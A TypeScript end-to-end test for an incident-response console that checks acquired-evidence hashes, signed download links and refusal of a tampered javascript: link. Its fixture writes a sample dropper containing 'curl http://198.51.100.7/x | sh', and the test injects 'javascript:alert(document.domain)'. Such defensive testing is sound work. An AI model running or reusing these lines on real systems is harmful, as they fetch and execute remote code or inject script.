/**
 * Evidence in the console: a file acquired by this machine's host responder (the real one `npm start`
 * runs) is listed on its action's page with the SHA-256 the service recorded, and the page's download
 * link, signed by the service, serves exactly those bytes; a link that is neither https nor on the
 * console's own origin is never opened.
 */
import { createHash } from 'node:crypto';
import { chmod, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, openConsolePage, saveScreenshot, signInLocally, startConsoleService, type ConsoleService } from './browser.ts';

const hostId = 'console-evidence-host';
let browser: Browser;
let app: ConsoleService;
let suspectDir: string;

beforeAll(async () => {
  browser = await launchChromium();
  app = await startConsoleService({ hostResponder: { name: hostId } });
  suspectDir = await mkdtemp(join(tmpdir(), 'e2e-console-suspect-'));
  await chmod(suspectDir, 0o755);
});
afterAll(async () => {
  await browser.close();
  await app.close();
  await rm(suspectDir, { recursive: true, force: true });
});

async function actionEnded(id: string, token: string): Promise<{ status: string; error: unknown }> {
  const deadline = Date.now() + 60_000;
  for (;;) {
    const record = (await (await fetch(`${app.service.url}/v1/actions/${id}`, { headers: { authorization: `Bearer ${token}` } })).json()) as { status: string; error: unknown };
    if (record.status === 'Completed' || record.status === 'Error') return record;
    if (Date.now() > deadline) throw new Error(`action ${id} stayed ${record.status}`);
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
}

/** A suspicious file written now and acquired by the host responder: the action's id and the file's SHA-256. */
async function acquiredFile(name: string): Promise<{ id: string; expectedSha256: string }> {
  const content = `#!/bin/sh\n# dropped by an intruder ${Date.now()}\ncurl http://198.51.100.7/x | sh\n`;
  const path = join(suspectDir, name);
  await writeFile(path, content, { mode: 0o644 });
  const expectedSha256 = createHash('sha256').update(content).digest('hex');
  const token = await app.service.issuer.issue({ sub: 'analyst-0', scopes: ['data-gathering-response-actions.exec'] });
  const created = await fetch(`${app.service.url}/v1/actions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ type: 'acquire-file', inputs: { 'host.id': hostId, 'path.absolute': path }, reason: 'evidence test' }),
  });
  if (created.status !== 202) throw new Error(`acquire-file was not accepted: ${created.status} ${await created.text()}`);
  const { id } = (await created.json()) as { id: string };
  const ended = await actionEnded(id, token);
  if (ended.status !== 'Completed') throw new Error(`acquire-file ended ${ended.status}: ${JSON.stringify(ended.error)}`);
  return { id, expectedSha256 };
}

describe('evidence on an action page', () => {
  it('lists the acquired file with its SHA-256, and its download link serves exactly those bytes', async () => {
    // Prepare: a suspicious file, acquired by the host responder
    const { id, expectedSha256 } = await acquiredFile('dropper.sh');
    const { page, problems, close } = await openConsolePage(browser);

    // Act
    await page.goto(`${app.service.url}/actions/${id}`);
    await signInLocally(page, { sub: 'analyst-1', scopes: ['data-gathering-response-actions.read'] });
    const evidence = page.getByRole('table', { name: 'Evidence' });
    await evidence.getByText(expectedSha256).first().waitFor();
    await evidence.scrollIntoViewIfNeeded();
    await saveScreenshot(page, 'evidence');
    const links = await evidence.getByRole('link', { name: /^Download / }).all();
    const hrefs = await Promise.all(links.map(async (link) => (await link.getAttribute('href')) ?? ''));
    const downloads = await Promise.all(hrefs.map(async (href) => createHash('sha256').update(Buffer.from(await (await fetch(new URL(href, app.service.url))).arrayBuffer())).digest('hex')));

    // Assess
    expect(hrefs.length).toBeGreaterThan(0);
    expect(downloads).toContain(expectedSha256);
    expect(problems).toEqual([]);
    await close();
  });

  it('opens no download link that is neither https nor on this origin', async () => {
    // Prepare: the service only ever sends its own signed links; this interception stands in for a
    // compromised answer (a proxy, a tampered service) that carries a javascript: link instead.
    const { id, expectedSha256 } = await acquiredFile('hostile-link.sh');
    const { page, problems, close } = await openConsolePage(browser);
    await page.route(`**/v1/actions/${id}/evidence`, async (route) => {
      const answer = await route.fetch();
      const body = (await answer.json()) as { items: { downloadUrl: string }[] };
      await route.fulfill({ response: answer, json: { items: body.items.map((item) => ({ ...item, downloadUrl: 'javascript:alert(document.domain)' })) } });
    });

    // Act
    await page.goto(`${app.service.url}/actions/${id}`);
    await signInLocally(page, { sub: 'analyst-1', scopes: ['data-gathering-response-actions.read'] });
    const evidence = page.getByRole('table', { name: 'Evidence' });
    await evidence.getByText(expectedSha256).first().waitFor();

    // Assess
    expect(await evidence.getByText('link refused (not https)').count()).toBeGreaterThan(0);
    expect(await evidence.getByRole('link', { name: /^Download / }).count()).toBe(0);
    expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
    expect(problems).toEqual([]);
    await close();
  });
});
